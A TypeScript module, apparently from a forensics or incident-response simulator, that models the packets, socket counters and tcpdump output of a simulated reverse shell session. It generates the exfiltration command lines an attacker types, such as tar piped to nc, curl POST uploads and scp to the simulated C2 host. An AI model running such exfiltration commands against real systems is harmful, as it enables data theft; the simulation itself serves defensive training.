/**
 * What a reverse shell's connection carries, as one list of segments that
 * its tcp_info (ss -i), the firewall and interface counters and tcpdump all
 * read. The shell connects (SYN, SYN-ACK, ACK); `bash -i` on a socket warns
 * that it has no job control and writes its prompt (Ubuntu's .bashrc: the
 * xterm title and colours); then, per command line the attacker types, the
 * line comes in, the shell writes what the command prints on the socket
 * (tar's warning about the leading '/', a background job's `[N] PID`) and,
 * once the command is done, the prompt again. Each side acknowledges the
 * other's data with its next segment, or alone after the delayed-ACK timer
 * (40 ms). There is no pty, so nothing typed is echoed.
 */
import type { Packet, TcpInfo } from '../types';
import { intFor } from './alloc';
import type { WorldCtx } from './context';
import type { Exfil, ReverseShell } from './types';

/** Round trip to the C2 (ms) and the delayed-ACK timer. */
export const RTT = 0.4;
const ATO = 40;

export interface Seg {
  at: number;
  out: boolean;
  /** Payload bytes (0 for a pure ACK, the SYN and the SYN-ACK). */
  len: number;
  flags: string;
}

/** A line typed into the shell: when it came, what the shell wrote back, when its prompt came back. */
export interface Typed {
  at: number;
  text: string;
  reply: string;
  prompt: number;
}

/** Command lines the attacker typed into the shell: the entries started from it, in order. */
export function typedInto(b: ReverseShell, ctx: WorldCtx): Typed[] {
  const key = `${b.id}:typed`;
  const known = ctx.memo.get(key) as Typed[] | undefined;
  if (known) return known;
  const out: Typed[] = [];
  let jobs = 0;
  const kids = [...ctx.byId.values()].filter((x) => 'parent' in x && x.parent === b.id).sort((x, y) => x.at - y.at);
  for (const x of kids) {
    if (x.kind === 'exfil') {
      // The pipeline runs in the foreground: the prompt comes back when it ends.
      const reply = x.tool === 'tar-nc' && x.source.startsWith('/') ? "tar: Removing leading '/' from member names\n" : '';
      out.push({ at: x.at, text: exfilCommand(x), reply, prompt: ctx.endOf(x.id) });
    } else if (x.kind === 'process') {
      out.push({ at: x.at, text: x.argv.join(' '), reply: '', prompt: ctx.endOf(x.id) });
    } else if (x.kind === 'beacon') {
      jobs++;
      out.push({ at: x.at, text: `${x.loopArgv.join(' ')} &`, reply: `[${jobs}] ${x.loopPid}\n`, prompt: x.at + 2 });
    } else {
      out.push({ at: x.at, text: x.id, reply: '', prompt: x.at + 2 });
    }
  }
  ctx.memo.set(key, out);
  return out;
}

function exfilCommand(x: Exfil): string {
  const dst = `${x.to.addr} ${x.to.port}`;
  if (x.tool === 'curl') return `curl -sk -X POST --data-binary @${x.source} https://${x.to.addr}:${x.to.port}/upload`;
  if (x.tool === 'scp') return `scp -q ${x.source} ${x.user}@${x.to.addr}:/tmp/`;
  return `tar czf - ${x.source} | nc ${dst}`;
}

/** Ubuntu's PS1 for an xterm-256color TERM: the window title, then user@host:dir in colour. */
export function promptText(b: ReverseShell, hostname: string): string {
  if (b.flavour === 'sh-mkfifo-nc' || b.flavour === 'perl') return '$ ';
  const dir = b.cwd === b.home ? '~' : b.cwd.startsWith(`${b.home}/`) ? `~${b.cwd.slice(b.home.length)}` : b.cwd;
  return `\x1b]0;${b.user}@${hostname}: ${dir}\x07\x1b[01;32m${b.user}@${hostname}\x1b[00m:` +
    `\x1b[01;34m${dir}\x1b[00m$ `;
}

/** bash -i's words when its stdin is a socket (the group it was started in). */
const noJobControl = (pgrp: number) =>
  `bash: cannot set terminal process group (${pgrp}): Inappropriate ioctl for device\n` +
  'bash: no job control in this shell\n';

const bytes = (s: string) => new TextEncoder().encode(s).length;

export interface Connection {
  /** When the shell connects. */
  start: number;
  /** The process group bash -i was started in. */
  pgrp: number;
  /** The lines typed into it (the first connection only). */
  typed: readonly Typed[];
  /** Nothing is carried from here on (the socket is closed, or the firewall cut it). */
  end: number;
}

/** Every segment of the connection, in time order. */
export function shellSegments(b: ReverseShell, hostname: string, c: Connection): Seg[] {
  const data: Seg[] = [];
  const prompt = bytes(promptText(b, hostname));
  const put = (at: number, out: boolean, text: string | number) => {
    const len = typeof text === 'number' ? text : bytes(text);
    if (len > 0 && at < c.end) data.push({ at, out, len, flags: 'P.' });
  };
  if (b.flavour === 'bash-dev-tcp') put(c.start + 2 + RTT, true, noJobControl(c.pgrp));
  put(c.start + 3 + RTT, true, prompt);
  for (const x of c.typed) {
    put(x.at, false, `${x.text}\n`);
    put(x.at + 1.5, true, x.reply);
    if (Number.isFinite(x.prompt)) put(Math.max(x.prompt, x.at + 2), true, prompt);
  }
  data.sort((x, y) => x.at - y.at);
  const segs: Seg[] = [
    { at: c.start, out: true, len: 0, flags: 'S' },
    { at: c.start + RTT, out: false, len: 0, flags: 'S.' },
    { at: c.start + RTT + 0.05, out: true, len: 0, flags: '.' },
  ].filter((s) => s.at < c.end);
  return withAcks(data, segs, c.end);
}

/** Adds each side's pure ACKs: data waits for the other side's next segment or the 40 ms timer. */
function withAcks(data: readonly Seg[], head: Seg[], end: number): Seg[] {
  const out = [...head];
  /** The side owing an ACK and when its timer fires. */
  let owed: { out: boolean; at: number } | undefined;
  const settle = (before: number) => {
    if (owed && owed.at <= before && owed.at < end) out.push({ at: owed.at, out: owed.out, len: 0, flags: '.' });
    if (owed && owed.at <= before) owed = undefined;
  };
  for (const d of data) {
    settle(d.at);
    if (owed && owed.out === d.out) owed = undefined; // this segment carries the ACK
    out.push(d);
    // The peer's ACK reaches the host a round trip after the host's data left.
    owed ??= { out: !d.out, at: d.at + ATO + (d.out ? RTT : 0) };
  }
  settle(Infinity);
  return out.sort((x, y) => x.at - y.at);
}

/** ss -i's counters after the segments sent and received by t. */
export function shellInfo(segs: readonly Seg[], t: number, start: number, base: TcpInfo): TcpInfo {
  const seen = segs.filter((s) => s.at <= t);
  const sum = (out: boolean) => seen.filter((s) => s.out === out).reduce((n, s) => n + s.len, 0);
  const count = (out: boolean, data?: boolean) =>
    seen.filter((s) => s.out === out && (!data || s.len > 0)).length;
  const last = (pick: (s: Seg) => boolean) => seen.filter(pick).at(-1)?.at ?? start;
  const lastIn = seen.filter((s) => !s.out).at(-1)?.at ?? start;
  // What the peer had acknowledged: the host's data sent a round trip before its last segment.
  const acked = seen.filter((s) => s.out && s.len > 0 && s.at <= lastIn - RTT).reduce((n, s) => n + s.len, 0);
  return {
    ...base, bytesSent: sum(true), bytesAcked: acked + 1, bytesReceived: sum(false),
    segsOut: count(true), segsIn: count(false), dataSegsOut: count(true, true), dataSegsIn: count(false, true),
    lastsnd: Math.floor(t - last((s) => s.out && s.len > 0)), lastrcv: Math.floor(t - last((s) => !s.out && s.len > 0)),
    lastack: Math.floor(t - lastIn),
  };
}

/** The segments as tcpdump sees them on the host's interface: sequence numbers and timestamps. */
export function shellPackets(
  b: ReverseShell, ctx: WorldCtx, port: number, segs: readonly Seg[], from: number, to: number, out: Packet[],
): void {
  const key = `${b.id}:${port}`;
  const isn = intFor(ctx.seed, `${key}:isn`, 0, 0xffffffff);
  const peerIsn = intFor(ctx.seed, `${key}:peer-isn`, 0, 0xffffffff);
  const peerTs = intFor(ctx.seed, `${key}:peer-ts`, 1, 0x7fffffff);
  const base = { iface: ctx.iface, family: 'inet' as const, proto: 'tcp' as const };
  const up = { ...base, src: ctx.hostAddr, dst: b.to.addr, sport: port, dport: b.to.port };
  const down = { ...base, src: b.to.addr, dst: ctx.hostAddr, sport: b.to.port, dport: port };
  let sent = 0;
  let got = 0;
  let tsHeard = 0;
  let tsMine = 0;
  for (const s of segs) {
    if (s.at >= to) break;
    const syn = s.flags.startsWith('S');
    const ts = s.out ? Math.floor(s.at) >>> 0 : (peerTs + Math.floor(s.at)) >>> 0;
    const seq = s.out ? (isn + (syn ? 0 : 1) + sent) >>> 0 : (peerIsn + (syn ? 0 : 1) + got) >>> 0;
    const ackOf = s.out ? (peerIsn + 1 + got) >>> 0 : (isn + 1 + sent) >>> 0;
    const options = syn
      ? `mss 1460,sackOK,TS val ${ts} ecr ${s.out ? 0 : tsMine},nop,wscale 7`
      : `nop,nop,TS val ${ts} ecr ${s.out ? tsHeard : tsMine}`;
    if (s.at >= from) {
      out.push({ ...(s.out ? up : down), time: s.at, flags: s.flags, seq,
        ...(s.len > 0 ? { seqEnd: (seq + s.len) >>> 0 } : {}),
        ...(s.flags === 'S' ? {} : { ack: ackOf }), win: syn ? (s.out ? 64240 : 65160) : s.out ? 502 : 509,
        options, length: s.len });
    }
    if (s.out) { sent += s.len; tsMine = ts; } else { got += s.len; tsHeard = ts; }
  }
}
